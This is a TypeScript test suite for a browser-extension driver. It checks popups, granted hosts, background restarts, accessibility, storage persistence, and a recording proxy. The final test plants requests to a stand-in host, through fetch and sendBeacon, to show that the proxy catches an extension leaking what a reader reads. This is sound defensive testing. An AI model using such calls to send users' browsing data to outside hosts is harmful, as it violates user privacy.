import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { serveDemo } from '../../scripts/start/demo-server';
import type { PageServer } from '../../scripts/start/page-server';
import type { BrowserDriver } from './driver/browser-driver';
import { launch } from './driver/launch';
import { letRead } from './driver/let-read';
import { notByPages } from './driver/not-by-pages';
import { recordingProxy, type RecordingProxy } from './driver/recording-proxy';
import { until } from './driver/until';
import { KINDS } from './kinds';
import { tinyExtension } from './tiny-extension';

const LEDGER = 'http://dailyledger.example/rockets-hit-tell-marwan.html';
const ALBORZ = 'http://alborznews.example/84172.html';

describe.each(KINDS)('the driver in %s, with an extension of a few lines', (kind) => {
  const folders = [tinyExtension(kind), mkdtempSync(join(tmpdir(), 'exonym-driver-'))] as const;
  const [dist, userDataDir] = folders;
  let server: PageServer;
  let proxy: RecordingProxy;
  let driver: BrowserDriver;
  const start = async (): Promise<void> => {
    driver = await launch(kind, dist, { userDataDir, proxy: proxy.port });
  };
  beforeAll(async () => {
    server = await serveDemo();
    proxy = await recordingProxy(server.hostMap);
    await start();
  });
  afterAll(async () => {
    await driver.close();
    proxy.close();
    server.close();
    for (const folder of folders) rmSync(folder, { recursive: true, force: true, maxRetries: 5 });
  });

  test('a click on the button opens the real popup and lets it into this tab', async () => {
    const page = await driver.open(LEDGER);
    const popup = await driver.clickAction(page);
    await popup.click('#b');
    await until('the background answered', async () =>
      (await popup.text()).includes('heard press'),
    );
    expect(await page.evaluate('CSS.highlights.get("tiny").size')).toBe(1);
    await popup.close();
  });

  test('a host that was granted is read without a click', async () => {
    await letRead(driver, ['alborznews.example']);
    const page = await driver.open(ALBORZ);
    await until('the page is marked', () =>
      page.evaluate('document.documentElement.dataset.tiny === "1"'),
    );
  });

  test('a killed background comes back when it is asked', async () => {
    await driver.killBackground();
    expect(await driver.backgroundAlive()).toBe(false);
    const answer = await driver.inExtension((view) => view.chrome.runtime.sendMessage('hello'));
    expect(answer).toBe('heard hello');
    // the answer may come before the browser tells of the new worker
    await until('the background is alive', () => driver.backgroundAlive());
  });

  test('axe reads a page of the extension', async () => {
    expect(await driver.axe(await driver.open('options.html'))).toEqual([]);
  });

  test('what is stored survives a restart', async () => {
    await driver.inExtension((view) => view.chrome.storage.local.set({ kept: 5 }));
    await driver.close();
    await start();
    expect(await driver.inExtension((view) => view.chrome.storage.local.get())).toEqual({
      kept: 5,
    });
  });

  test('the recorder saw the pages and nothing else', () => {
    expect(proxy.log.length).toBeGreaterThan(1);
    expect(notByPages(proxy.log, kind, Object.keys(server.hostMap))).toEqual([]);
  });

  // Each way that an extension could tell somebody what the reader reads.
  test.each<[string, Leak]>([
    ['to a stranger', (view) => view.fetch('http://planted.example/a')],
    ['encrypted', (view) => view.fetch('https://planted.example/b')],
    ['to the site that is read', (view, url) => view.fetch(url)],
    ['as a report', (view) => view.navigator.sendBeacon('https://planted.example/c', 'read')],
    ['from the background', (view) => view.chrome.runtime.sendMessage('leak')],
  ])('the recorder sees a request that is planted: %s', async (_, leak) => {
    const before = proxy.log.length;
    await driver.inExtension(leak, LEDGER).catch(() => null);
    await until('it is seen', () => {
      const since = proxy.log.slice(before);
      return notByPages(since, kind, Object.keys(server.hostMap)).length > 0;
    });
  });
});

type Leak = (view: Window, url: string) => unknown;
